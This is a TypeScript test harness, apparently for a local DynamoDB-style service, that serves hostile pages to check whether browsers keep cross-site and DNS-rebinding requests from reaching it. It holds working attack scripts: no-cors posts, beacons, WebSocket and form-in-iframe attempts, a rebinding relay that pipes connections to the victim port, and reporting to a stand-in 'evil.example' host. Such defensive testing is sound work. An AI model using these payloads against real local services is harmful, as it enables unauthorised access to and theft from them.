import { createServer as createHttpServer, type IncomingMessage, type Server } from 'node:http';
import { connect, createServer, type Server as NetServer, type Socket } from 'node:net';
import { text } from 'node:stream/consumers';

/** What a page got of one attempt: `error` where the browser kept it from the page, else what it could read. */
export interface Attempt {
  readonly what: string;
  readonly got: string;
}

export interface HostilePages {
  readonly port: number;
  readonly attempts: readonly Attempt[];
  close(): void;
}

const LIST = "'X-Amz-Target': 'DynamoDB_20120810.ListTables'";
const JSON_10 = "'Content-Type': 'application/x-amz-json-1.0'";

/** Served by another site: each attempt is told to /report, and the last of them is `done`. */
export async function servePages(victimPort: number): Promise<HostilePages> {
  const attempts: Attempt[] = [];
  const server: Server = createHttpServer((request: IncomingMessage, response) => {
    if (request.method === 'POST') {
      void text(request).then((body) => {
        attempts.push(JSON.parse(body) as Attempt);
        response.setHeader('access-control-allow-origin', '*').end();
      });
      return;
    }
    response.setHeader('content-type', 'text/html').end(page(crossSite(victimPort), 'http://evil.example:' + portOf(server)));
  });
  await listen(server, '127.0.0.1', 0);
  return { port: portOf(server), attempts, close: () => void server.close() };
}

/**
 * A name that leads to its own server first and to this machine afterwards. The browser is told one address, and what answers there
 * hands every connection but the first to the victim, byte for byte: what comes is what a browser sends after the name was bound anew.
 */
export async function serveRebound(options: {
  readonly address: string;
  readonly victimPort: number;
  readonly reportTo: string;
}): Promise<() => void> {
  const { address, victimPort, reportTo } = options;
  const sockets = new Set<Socket>();
  const body = page(sameOrigin(), reportTo);
  const server: NetServer = createServer((socket) => {
    sockets.add(socket);
    socket.on('error', () => socket.destroy());
    socket.once('data', (head: Buffer) => {
      if (head.toString('latin1').startsWith('GET /page ')) {
        const lines = ['HTTP/1.1 200 OK', 'Content-Type: text/html', `Content-Length: ${Buffer.byteLength(body)}`, 'Connection: close'];
        return void socket.end(`${lines.join('\r\n')}\r\n\r\n${body}`);
      }
      const victim = connect(victimPort, '127.0.0.1', () => victim.write(head));
      sockets.add(victim);
      victim.on('error', () => socket.destroy());
      socket.pipe(victim).pipe(socket);
    });
  });
  await listen(server, address, victimPort);
  return () => {
    server.close();
    for (const socket of sockets) socket.destroy();
  };
}

function crossSite(port: number): string {
  const at = ['localhost', '127.0.0.1'].map((name) => `'http://${name}:${port}/'`).join(',');
  return `
    for (const url of [${at}]) {
      await attempt('simple ' + url, () => fetch(url, { method: 'POST', mode: 'no-cors', body: '{}' }));
      await attempt('text ' + url, () => fetch(url, { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: '{}' }));
      await attempt('asked first ' + url, () => fetch(url, { method: 'POST', headers: { ${JSON_10}, ${LIST} }, body: '{}' }));
      await attempt('get ' + url, () => fetch(url, { mode: 'no-cors' }));
      await attempt('beacon ' + url, async () => ({ type: String(navigator.sendBeacon(url, '{}')), text: async () => '' }));
      await attempt('image ' + url, () => new Promise((resolve, reject) => { const i = new Image(); i.onload = () => resolve({ type: 'loaded', text: async () => '' }); i.onerror = reject; i.src = url; }));
      await attempt('socket ' + url, () => new Promise((resolve, reject) => { const s = new WebSocket(url.replace('http', 'ws')); s.onopen = () => resolve({ type: 'open', text: async () => '' }); s.onerror = reject; }));
      await attempt('form ' + url, () => new Promise((resolve) => {
        document.body.innerHTML += '<iframe name=f></iframe><form method=post target=f enctype=text/plain action=' + url + '><input name=a value=b></form>';
        document.forms[0].submit();
        setTimeout(() => { let seen = 'kept away'; try { seen = 'read ' + frames.f.document.body.innerText; } catch {} document.body.innerHTML = ''; resolve({ type: seen, text: async () => '' }); }, 700);
      }));
    }`;
}

function sameOrigin(): string {
  return `
    await attempt('rebound post', () => fetch('/', { method: 'POST', headers: { ${JSON_10}, ${LIST} }, body: '{}' }));
    await attempt('rebound get', () => fetch('/'));
    await attempt('rebound form', () => fetch('/', { method: 'POST', headers: { 'Content-Type': 'text/plain' }, body: '{}' }));`;
}

function page(script: string, reportTo: string): string {
  return `<!doctype html><body><script type="module">
    const report = (what, got) => fetch('${reportTo}/report', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ what, got }) });
    async function attempt(what, act) {
      let got;
      try { const answer = await act(); got = answer.type + ' ' + (answer.status ?? '') + ' ' + (await answer.text()).slice(0, 300); } catch { got = 'error'; }
      await report(what, got);
    }
    ${script}
    await report('done', location.host);
  </script>`;
}

function listen(server: Server | NetServer, host: string, port: number): Promise<void> {
  return new Promise((resolve, reject) => {
    server.once('error', reject);
    server.listen(port, host, () => resolve());
  });
}

function portOf(server: Server): number {
  const address = server.address();
  return address !== null && typeof address === 'object' ? address.port : 0;
}
